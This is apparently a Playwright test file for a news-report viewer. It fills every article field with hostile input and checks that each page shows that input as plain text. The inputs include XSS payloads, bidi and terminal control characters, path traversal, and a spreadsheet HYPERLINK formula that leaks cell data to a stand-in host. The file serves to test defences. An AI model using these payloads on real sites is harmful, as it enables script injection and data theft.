"""A corpus that means harm, in a browser: whatever an article says, it changes nothing but its own text."""

import json

import pytest
from playwright.sync_api import expect

from conftest import Visit, report_of

HARM = "document.title='taken'"
HOSTILE = [
    f"</script><script>{HARM}</script>",
    f"<img src=x onerror=\"{HARM}\">",
    f"javascript:{HARM}",
    "\u202edrowkcab\u202c \u2066\u200f",
    "\x1b[2J\x1b]0;taken\x07 \x00",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"a, b\")",
    "../../../taken",
    f"' onmouseover={HARM} x='",
    f"--><svg onload={HARM}>",
    "x" * 1_000_000,
]

FERRY = """A ferry with 212 people on board ran aground off the island of Tarn on Tuesday morning, the coast guard said.
The captain told the harbour office by radio that the rudder had failed in heavy fog some two miles south of the light.
Fishing boats from three villages reached the ship before the rescue vessels did, and took the first passengers off.
Nobody was hurt, but forty travellers were treated for cold in a school that had been opened for them.
The company said that the ship had passed its yearly inspection in March, and promised to pay for hotels."""


@pytest.fixture(scope="session")
def hostile_report(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    articles = [
        {
            "id": f"{words} {number}",
            "outlet": f"{words} {number}",
            "title": words,
            "byline": words,
            "url": words,
            "language": words,
            "date": "2026-03-04T12:00:00Z",
            "body": f"{FERRY}\nThe mayor said: {words}",
        }
        for number, words in enumerate(HOSTILE)
    ]
    corpus = folder / "news.jsonl"
    corpus.write_text("".join(json.dumps(article) + "\n" for article in articles))
    return report_of(folder, corpus)


@pytest.fixture(params=[1280, 360])
def hostile(browser, hostile_report, request):
    visit = Visit(browser, hostile_report, viewport={"width": request.param, "height": 900})
    yield visit
    page = visit.page
    assert "taken" not in page.title() or page.title().endswith(" – wirecopy")
    assert page.locator("img, iframe, object, main script, [onload], [onerror], [onmouseover]").count() == 0
    assert page.locator("a[href^='javascript' i]").count() == 0
    visit.end(hostile_report)


def fits(visit):
    width = visit.page.viewport_size["width"]
    return visit.page.evaluate("document.documentElement.scrollWidth") <= width


def test_every_page_shows_hostile_words_as_words(hostile):
    for address in ["#/", "#/stories", "#/stories?q=onerror", "#/stories?q=%3Cimg", "#/outlets", "#/flags", "#/run"]:
        hostile.go(address)
        hostile.page.wait_for_timeout(200)
        assert fits(hostile), address


def test_story_has_every_hostile_word_in_its_place(hostile):
    page = hostile.page
    hostile.go(page.locator(".top a").first.get_attribute("href"))
    expect(page.locator(".members tbody tr")).to_have_count(len(HOSTILE))
    shown = page.locator(".members").inner_text()
    for words in HOSTILE[0], HOSTILE[1], HOSTILE[5], HOSTILE[6], HOSTILE[7], HOSTILE[8]:
        assert words in shown, words
    marks = page.locator(".members .unseen-mark").all_inner_texts()
    assert {"RLO", "PDF", "LRI", "RLM", "ESC", "BEL", "NUL"} <= set(marks)
    for _ in HOSTILE:
        page.keyboard.press("n")
        page.keyboard.press("v")
        assert fits(hostile)
    links = page.locator("main a[target]")
    assert links.count() == 0, "none of the addresses is one of the web"


def test_address_of_the_page_is_no_markup(hostile):
    for words in HOSTILE[:2]:
        hostile.go(f"#/story/{words}")
        expect(hostile.page.locator("h1")).to_have_text("No such story")
        hostile.go(f"#/stories?q={words}&sort={words}")
        expect(hostile.page.locator("#search")).to_be_visible()
